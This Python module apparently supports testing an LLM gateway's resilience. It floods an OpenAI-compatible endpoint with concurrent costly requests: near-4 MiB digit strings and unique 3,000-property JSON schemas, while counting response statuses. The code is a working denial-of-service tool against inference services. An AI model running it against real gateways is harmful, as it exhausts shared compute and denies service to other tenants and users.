"""Send one tenant's expensive requests to a gateway, several at once, until stopped."""

from __future__ import annotations

import asyncio
import itertools
import json
from collections import Counter
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from typing import NamedTuple

import aiohttp

PATH = "/v1/chat/completions"
NUM_DIGITS = 3_900_000
"""In one text, below the 4 MiB of a body; many tokenizers make a token of each digit."""
NUM_PROPERTIES = 3_000


class AttackKind(NamedTuple):
    """`num_clients`: requests that are under way at any time. `body`: makes the n-th request's body for a model."""

    num_clients: int
    body: Callable[[str, int], bytes]


def _digits(model: str, _number: int) -> bytes:
    return _chat(model, "7" * NUM_DIGITS)


def _schema(model: str, number: int) -> bytes:
    """Return a request whose schema no earlier request had."""
    properties = {f"field_{number}_{index}": {"type": "string"} for index in range(NUM_PROPERTIES)}
    schema = {"type": "object", "properties": properties, "required": list(properties)}
    return _chat(model, "hi", response_format={"type": "json_schema", "json_schema": {"name": "a", "schema": schema}})


def _chat(model: str, content: str, **fields: object) -> bytes:
    messages = [{"role": "user", "content": content}]
    return json.dumps({"model": model, "messages": messages, "max_tokens": 1, **fields}).encode()


ATTACKS = {"digits": AttackKind(8, _digits), "schemas": AttackKind(12, _schema)}


class Attack:
    """Own the attacker of one gateway. `num_answers`: its requests by the status of their answer; 0 without one."""

    def __init__(self, url: str, key: str, kind: AttackKind) -> None:
        self.num_answers: Counter[int] = Counter()
        self._url = url
        self._headers = {"authorization": f"Bearer {key}", "content-type": "application/json"}
        self._kind = kind
        self._numbers = itertools.count()

    @asynccontextmanager
    async def running(self) -> AsyncIterator[Attack]:
        """Send requests inside the context; each client sends its next one as soon as the last was answered."""
        async with aiohttp.ClientSession(headers=self._headers, timeout=aiohttp.ClientTimeout(None)) as session:
            async with session.get(f"{self._url}/v1/models") as response:
                model = (await response.json())["data"][0]["id"]
            clients = [asyncio.create_task(self._client(session, model)) for _ in range(self._kind.num_clients)]
            try:
                yield self
            finally:
                for client in clients:
                    client.cancel()
                await asyncio.gather(*clients, return_exceptions=True)

    async def _client(self, session: aiohttp.ClientSession, model: str) -> None:
        while True:
            body = await asyncio.to_thread(self._kind.body, model, next(self._numbers))
            try:
                async with session.post(self._url + PATH, data=body) as response:
                    await response.read()
                    self.num_answers[response.status] += 1
            except (aiohttp.ClientError, OSError):
                self.num_answers[0] += 1
                await asyncio.sleep(0.1)
